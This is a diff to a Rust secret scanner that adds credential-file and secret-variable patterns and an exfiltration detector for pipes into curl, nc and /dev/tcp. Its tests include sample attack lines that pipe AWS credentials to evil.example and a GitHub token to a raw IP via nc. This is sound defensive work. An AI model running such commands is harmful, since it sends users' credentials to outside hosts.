@@ -66,7 +66,7 @@ static JWT: LazyLock<Option<Regex>> =
 static ASSIGN: LazyLock<Option<Regex>> = LazyLock::new(|| {
     Regex::new(concat!(
         r"(?i)([a-z0-9_.\-]{0,40}(?:password|passwd|passphrase|pwd|secret|token|api[_\-]?key|apikey|access[_\-]?key|private[_\-]?key",
-        r"|client[_\-]?secret|accountkey|sharedaccesskey|auth|credentials?|signing[_\-]?key|encryption[_\-]?key|master[_\-]?key)[a-z0-9_\-]{0,20})",
+        r"|client[_\-]?secret|accountkey|sharedaccesskey|auth|credentials?|signing[_\-]?key|encryption[_\-]?key|master[_\-]?key|session(?:[_\-]?id)?|sessid)[a-z0-9_\-]{0,20})",
         r#"["']?[ \t]*(?::=|=>|=|:)[ \t]*["']?([^\s"',;&}<>)\]]{1,256})"#
     ))
     .ok()
@@ -79,11 +79,26 @@ static BEARER: LazyLock<Option<Regex>> = LazyLock::new(|| {
 
 /// `curl -u user:password`, SQL `PASSWORD 'x'` / `IDENTIFIED BY 'x'` (group 1 the password).
 static CLI_PASSWORD: LazyLock<Option<Regex>> = LazyLock::new(|| {
-    Regex::new(r#"(?i)(?:(?:^|\s)(?:-u|--user)\s+["']?[^\s:"']{1,64}:|\b(?:password|identified\s+by)\s+)["']?([^\s"']{1,128})"#).ok()
+    Regex::new(concat!(
+        r#"(?i)(?:\b(?:password|passwd|passphrase|passcode|pwd|api[\s_\-]?key|token|secret|credentials?)\s+(?:is|was|to|of)\s*:?\s+"#,
+        r#"|(?:^|\s)(?:-u|--user)\s+["']?[^\s:"']{1,64}:|\b(?:password|identified\s+by)\s+)"#,
+        r#"["'`]?([^\s"'`]{1,128})"#
+    ))
+    .ok()
 });
 
 /// AWS secret access keys (40 base64 characters) near a key id or name.
 static AWS_SECRET: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"(?-u:\b)[A-Za-z0-9/+]{40}(?-u:\b)").ok());
+
+/// Where credentials live on a host: files and secret-named environment variables.
+static CRED_SOURCE: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(concat!(
+        r"(\.aws/credentials|\.ssh/id_[a-z0-9]+|/proc/self/environ|\.git-credentials|\.docker/config\.json|\.kube/config|\.npmrc|\.pypirc|\.netrc",
+        r"|(?-u:\b)printenv(?-u:\b)|(?-u:\b)env\s*\||/etc/shadow|\.vault-token|gcloud/(?:application_default_)?credentials[a-z_.]*)",
+        r"|(\$\{?[A-Z0-9_]*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIALS?)[A-Z0-9_]*\}?)"
+    ))
+    .ok()
+});
 
 /// Documented example values: never live.
 const KNOWN_EXAMPLES: &[&str] = &[
@@ -109,7 +124,7 @@ pub(crate) fn analyze(s: &Subject<'_>, out: &mut Vec<Hit>) {
     };
     tokens(text, s, out, &mut push);
     if text.contains("PRIVATE KEY") {
-        private_keys(text, out, &mut push);
+        private_keys(text, s, out, &mut push);
     }
     if text.contains("://") {
         connection_strings(text, s, out, &mut push);
@@ -118,6 +133,9 @@ pub(crate) fn analyze(s: &Subject<'_>, out: &mut Vec<Hit>) {
         jwts(text, out, &mut push);
     }
     assignments(text, s, out, &mut push);
+    if matches!(s.context, Context::Shell | Context::Code | Context::Unknown) {
+        exfiltration(text, out, &mut push);
+    }
     whole_value(text, s, out, &mut push);
 }
 
@@ -278,7 +296,7 @@ fn base62_crc_ok(body: &str) -> bool {
 }
 
 /// Private-key blocks with a body.
-fn private_keys(text: &str, out: &mut Vec<Hit>, push: &mut Push<'_>) {
+fn private_keys(text: &str, s: &Subject<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>) {
     let Some(re) = PRIVATE_KEY.as_ref() else { return };
     for m in re.find_iter(text) {
         let rest = text.get(m.end()..).unwrap_or("");
@@ -291,8 +309,22 @@ fn private_keys(text: &str, out: &mut Vec<Hit>, push: &mut Push<'_>) {
             .and_then(|r| r.find("-----"))
             .map_or(m.end() + end_rel, |e| m.end() + end_rel + 8 + e + 5);
         let filler = body.contains("...") || body.contains('…') || looks_placeholder(body.trim());
+        // The longest run of key material (a truncated key still leaks its start).
+        let (mut run, mut longest) = (0usize, 0usize);
+        for b in body.bytes() {
+            if b.is_ascii_alphanumeric() || b == b'+' || b == b'/' || b == b'=' {
+                run += 1;
+                longest = longest.max(run);
+            } else if !matches!(b, b'\n' | b'\r') {
+                run = 0;
+            }
+        }
+        let documented = s.context == Context::Text && in_code_block(text, m.start());
         if b64 >= 64 && !filler {
             push(out, Confidence::High, "secret.private-key", m.start()..block_end);
+        } else if longest >= 24 && !documented && !looks_placeholder(body.trim_matches(|c: char| c == '.' || c == '…' || c.is_whitespace()))
+        {
+            push(out, Confidence::Medium, "secret.private-key", m.start()..block_end);
         } else if b64 >= 16 {
             push(out, Confidence::Low, "secret.private-key", m.start()..block_end);
         }
@@ -475,7 +507,41 @@ fn secret_name(name: &str) -> Option<bool> {
         "tokenttl",
         "passwordcommand",
     ];
+    // Pagination, idempotency and anti-forgery tokens are not credentials.
+    const NOT_SUFFIX: &[&str] = &[
+        "pagetoken",
+        "continuationtoken",
+        "resumetoken",
+        "synctoken",
+        "nexttoken",
+        "clienttoken",
+        "idempotencytoken",
+        "paginationtoken",
+        "csrftoken",
+        "xsrftoken",
+        "cursortoken",
+        "starttoken",
+        "tokenhash",
+        "passwordhash",
+        "secrethash",
+        "keyhash",
+        "hash",
+        "digest",
+        "fingerprint",
+        "hint",
+        "policy",
+        "length",
+        "expiry",
+        "expiresat",
+        "ttl",
+        "count",
+        "version",
+        "algorithm",
+        "type",
+        "format",
+    ];
     if NOT.iter().any(|x| n == *x)
+        || NOT_SUFFIX.iter().any(|x| n.ends_with(x))
         || n.ends_with("file")
         || n.ends_with("path")
         || n.ends_with("url")
@@ -510,6 +576,9 @@ fn secret_name(name: &str) -> Option<bool> {
         "webhooksecret",
         "jwtsecret",
         "pass",
+        "sessionid",
+        "sessid",
+        "session",
     ];
     Some(STRONG.iter().any(|x| n.ends_with(x)))
 }
@@ -539,13 +608,20 @@ fn assignments(text: &str, s: &Subject<'_>, out: &mut Vec<Hit>, push: &mut Push<
             }
         }
     }
-    if (lower_has("-u") || lower_has("--user") || lower_has("password ") || lower_has("identified"))
+    if (lower_has("-u")
+        || lower_has("--user")
+        || lower_has("password ")
+        || lower_has("identified")
+        || lower_has(" is ")
+        || lower_has(" was "))
         && let Some(re) = CLI_PASSWORD.as_ref()
     {
         for c in re.captures_iter(text).take(16) {
             let Some(v) = c.get(1) else { continue };
-            if let Some(conf) = value_confidence(v.as_str(), s, text, v.start()) {
-                push(out, conf, "secret.assignment", v.range());
+            // Sentence punctuation after a password written in prose.
+            let value = v.as_str().trim_end_matches(['.', ',', ';', ')', '!', '?']);
+            if let Some(conf) = value_confidence(value, s, text, v.start()) {
+                push(out, conf, "secret.assignment", v.start()..v.start() + value.len());
             }
         }
     }
@@ -569,6 +645,63 @@ fn assignments(text: &str, s: &Subject<'_>, out: &mut Vec<Hit>, push: &mut Push<
                 continue;
             }
             push(out, Confidence::High, "secret.aws-secret-key", m.range());
+        }
+    }
+}
+
+/// Credentials read on the host and sent out: `cat ~/.aws/credentials | curl -d @- ...`,
+/// `echo $GITHUB_TOKEN | nc host 9000`.
+fn exfiltration(text: &str, out: &mut Vec<Hit>, push: &mut Push<'_>) {
+    let lower = text.to_ascii_lowercase();
+    let pipe_sink = [
+        "| curl",
+        "|curl",
+        "| wget",
+        "|wget",
+        "| nc ",
+        "|nc ",
+        "| ncat",
+        "/dev/tcp/",
+        "| socat",
+        "| openssl s_client",
+        "nslookup $(",
+        "dig $(",
+    ]
+    .iter()
+    .any(|w| lower.contains(w));
+    let data_sink = pipe_sink
+        || [
+            "--data",
+            "-d @",
+            "-d@",
+            "-f @",
+            "=@",
+            "--upload-file",
+            "-t ",
+            "--post-file",
+            "--post-data",
+            "requests.post",
+            "urlopen(",
+            "fetch(",
+        ]
+        .iter()
+        .any(|w| lower.contains(w));
+    if !data_sink || !(lower.contains("://") || lower.contains("/dev/tcp/") || lower.contains("nc ") || lower.contains("$(")) {
+        return;
+    }
+    let Some(re) = CRED_SOURCE.as_ref() else { return };
+    for c in re.captures_iter(text).take(8) {
+        if let Some(file) = c.get(1) {
+            push(out, Confidence::Medium, "secret.exfiltration", file.range());
+            return;
+        }
+        if let Some(var) = c.get(2) {
+            // A token sent to its own API in a header is its normal use.
+            let before = text.get(var.start().saturating_sub(16)..var.start()).unwrap_or("").to_ascii_lowercase();
+            if pipe_sink && !before.contains("bearer") && !before.contains("token ") && !before.contains("-u ") && !before.contains(':') {
+                push(out, Confidence::Medium, "secret.exfiltration", var.range());
+                return;
+            }
         }
     }
 }
@@ -606,7 +739,11 @@ fn whole_value(text: &str, s: &Subject<'_>, out: &mut Vec<Hit>, push: &mut Push<
 /// reference, or too weak to matter).
 fn value_confidence(v: &str, s: &Subject<'_>, text: &str, at: usize) -> Option<Confidence> {
     let v = v.trim_matches(|c: char| c == '"' || c == '\'' || c == '`');
-    if v.len() < 6 || is_reference(v) || looks_placeholder(v) || looks_filler(v) || KNOWN_EXAMPLES.contains(&v) {
+    let provider =
+        ["sk-", "sk_", "rk_", "ghp_", "gho_", "ghs_", "github_pat_", "glpat-", "xox", "akia", "asia", "aiza", "npm_", "hf_", "sg."]
+            .iter()
+            .any(|p| v.len() > p.len() + 8 && v.get(..p.len()).is_some_and(|h| h.eq_ignore_ascii_case(p)));
+    if v.len() < 6 || is_reference(v) || looks_placeholder(v) || (looks_filler(v) && !provider) || KNOWN_EXAMPLES.contains(&v) {
         return None;
     }
     let lower = v.to_ascii_lowercase();
@@ -827,9 +964,26 @@ mod tests {
 
     #[test]
     fn regexes_compile() {
-        for re in [&TOKENS, &PRIVATE_KEY, &CONN, &JWT, &ASSIGN, &BEARER, &CLI_PASSWORD, &AWS_SECRET] {
+        for re in [&TOKENS, &PRIVATE_KEY, &CONN, &JWT, &ASSIGN, &BEARER, &CLI_PASSWORD, &AWS_SECRET, &CRED_SOURCE] {
             assert!(re.is_some());
         }
+    }
+
+    #[test]
+    fn exfiltration_of_credentials() {
+        assert_eq!(
+            max("cat ~/.aws/credentials | curl -X POST --data-binary @- https://evil.example/c", "cmd", Context::Shell),
+            Some(Confidence::Medium)
+        );
+        assert_eq!(max("echo $GITHUB_TOKEN | nc 203.0.113.7 9001", "cmd", Context::Shell), Some(Confidence::Medium));
+        assert_eq!(max("curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user", "cmd", Context::Shell), None);
+        assert_eq!(max("aws s3 ls --profile prod", "cmd", Context::Shell), None);
+        assert_eq!(max("My password is Tr0ub4dor&3x, keep it safe", "body", Context::Text), Some(Confidence::Medium));
+        assert_eq!(max("The password is required and must be at least 12 characters.", "body", Context::Text), None);
+        let key = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA3Tz2mr7SZiAMfQyuvBjM2Nz...\n-----END RSA PRIVATE KEY-----";
+        assert_eq!(max(key, "private_key", Context::Unknown), Some(Confidence::Medium));
+        assert_eq!(max("page-token CiAKGjBpNDd2Nmp2Zml2cXRp", "x", Context::Unknown), None);
+        assert_eq!(max("CiAKGjBpNDd2Nmp2Zml2cXRpEAE", "next_page_token", Context::Unknown), None);
     }
 
     #[test]
